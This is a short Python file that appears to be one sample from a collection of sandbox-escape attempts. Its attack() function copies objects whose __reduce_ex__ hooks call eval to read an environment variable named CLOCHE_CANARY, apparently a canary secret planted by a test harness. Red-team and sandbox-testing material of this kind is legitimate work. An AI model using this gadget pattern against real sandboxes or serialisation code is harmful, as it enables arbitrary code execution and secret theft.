"""Class: module gadget. Source: own find. Escape: copy.copy calls __copy__ of an object, found on
its class.
"""

import copy


class Own:
    def __copy__(self):
        return type(self).__init__.__class__.__get__

    def __reduce_ex__(self, protocol):
        return eval, ("__import__('os').environ['CLOCHE_CANARY']",)


class Second:
    def __reduce_ex__(self, protocol):
        return eval, ("__import__('os').environ['CLOCHE_CANARY']",)


def attack(model, tokenizer, address):
    return [copy.copy(Own()), copy.copy(Second())]
